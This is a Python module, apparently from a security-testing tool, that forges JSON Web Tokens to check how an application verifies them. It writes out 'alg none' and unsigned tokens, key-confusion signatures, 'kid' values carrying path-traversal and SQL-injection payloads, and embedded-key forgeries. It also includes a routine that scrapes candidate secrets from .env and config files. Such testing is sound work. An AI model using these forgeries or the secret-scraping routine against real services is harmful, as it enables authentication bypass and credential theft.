"""JSON Web Tokens that nobody gave out, made from one that somebody was given: each differs from it in what a reader has to verify.

Against a token that says who one is, signed by nobody.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import re
import secrets
import time
from collections.abc import Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from ringwork.prove.tokens import decoded

UNSIGNED, NONE, ALTERED, OTHER_KEY = (
    "no signature",
    "alg none",
    "altered claims under the old signature",
    "a signature by a key of one's own",
)
CONFUSED, NAMED, EXPIRED, FOREIGN = (
    "the public key as a secret", "a key that the token names itself", "an end that has passed", "another audience or issuer"
)  # fmt: skip
_HASHES: Mapping[str, Any] = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
_QUOTED = re.compile(r"""["']([^"'\n]{3,200})["']|=\s*([^\s"'#]{6,200})""")
_PEM = re.compile(r"-----BEGIN PUBLIC KEY-----[A-Za-z0-9+/=\s]+-----END PUBLIC KEY-----\n?")
_MOST_KEYS, _MOST_BYTES = 4000, 200_000


@dataclass(frozen=True, slots=True, kw_only=True)
class Token:
    """A token taken apart. text: as it was given."""

    text: str
    header: Mapping[str, Any]
    claims: Mapping[str, Any]
    signature: bytes

    @property
    def algorithm(self) -> str:
        """As its header says."""
        return str(self.header.get("alg", ""))


def taken_apart(text: str) -> Token | None:
    """The token in a text; None for any other text."""
    parts = text.split(".")
    if len(parts) != 3:
        return None
    try:
        header, claims = json.loads(decoded(parts[0])), json.loads(decoded(parts[1]))
    except ValueError:
        return None
    is_one = isinstance(header, dict) and isinstance(claims, dict) and "alg" in header
    return Token(text=text, header=header, claims=claims, signature=decoded(parts[2])) if is_one else None


def made(header: Mapping[str, Any], claims: Mapping[str, Any], key: bytes | None) -> str:
    """A token with these claims, signed by this key as its header says; None for an empty signature."""
    body = f"{_written(header)}.{_written(claims)}"
    made_by = _HASHES.get(str(header.get("alg")), hashlib.sha256)
    return f"{body}.{'' if key is None else _plain(hmac.digest(key, body.encode(), made_by))}"


def _written(value: Mapping[str, Any]) -> str:
    return _plain(json.dumps(value, separators=(",", ":")).encode())


def _plain(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


def key_of(token: Token, keys: Iterable[bytes]) -> bytes | None:
    """The key among these that made the token's signature; None for none, and for one that no secret makes."""
    made_by = _HASHES.get(token.algorithm)
    body = token.text.rpartition(".")[0].encode()
    return next((key for key in keys if made_by is not None and hmac.digest(key, body, made_by) == token.signature), None)


def keys_in(root: Path, files: Sequence[str]) -> Iterator[bytes]:
    """What may be a secret in the application's own files: with it, claims can be altered one by one under a genuine signature."""
    seen = set[bytes]()
    for path in [*(root / name for name in files), *root.glob("*.env"), root / ".env"]:
        if path.is_file() and path.stat().st_size < _MOST_BYTES:
            for match in _QUOTED.finditer(path.read_text(encoding="utf-8", errors="replace")):
                key = (match[1] or match[2]).encode()
                if key not in seen and len(seen) < _MOST_KEYS:
                    seen.add(key)
                    yield key


def public_keys(root: Path) -> list[bytes]:
    """Public keys that lie beside the application, as they are written, with and without the line's end."""
    found = list[bytes]()
    for path in [*root.glob("*.pem"), *root.glob("*/*.pem"), *root.glob("*.pub"), *root.glob("*/*.pub")]:
        for match in _PEM.finditer(path.read_text(encoding="utf-8", errors="replace") if path.stat().st_size < _MOST_BYTES else ""):
            found += [match[0].encode(), match[0].strip().encode()]
    return list(dict.fromkeys(found))


def unsigned(token: Token, public: Sequence[bytes]) -> Iterator[tuple[str, str]]:
    """Forgeries for which no key is needed: what is tried, and the token."""
    body = token.text.rpartition(".")[0]
    yield UNSIGNED, f"{body}."
    yield UNSIGNED, body
    for name in ("none", "None", "NONE", "nOnE"):
        yield NONE, made({**token.header, "alg": name}, token.claims, None)
    yield ALTERED, f"{body.partition('.')[0]}.{_written({**token.claims, 'rw': secrets.token_hex(8)})}.{token.text.rpartition('.')[2]}"
    chosen = secrets.token_bytes(32)
    header = {**token.header, "alg": "HS256"}
    for key in (chosen, b""):
        yield OTHER_KEY, made(header, token.claims, key)
    for key in public:
        yield CONFUSED, made(header, token.claims, key)
    yield NAMED, made({**header, "kid": "../../../../../../../../dev/null"}, token.claims, b"")
    yield NAMED, made({**header, "kid": "' UNION SELECT 'rwkey' -- "}, token.claims, b"rwkey")
    yield NAMED, made({**header, "jwk": {"kty": "oct", "k": _plain(chosen)}}, token.claims, chosen)


def signed(token: Token, key: bytes) -> Iterator[tuple[str, str]]:
    """Tokens under a genuine signature whose claims do not hold here; only claims that the given one has."""
    if isinstance(token.claims.get("exp"), int | float):
        yield EXPIRED, made(token.header, {**token.claims, "exp": int(time.time()) - 86_400}, key)
    for name in ("aud", "iss"):
        if name in token.claims:
            yield FOREIGN, made(token.header, {**token.claims, name: "https://elsewhere.invalid"}, key)
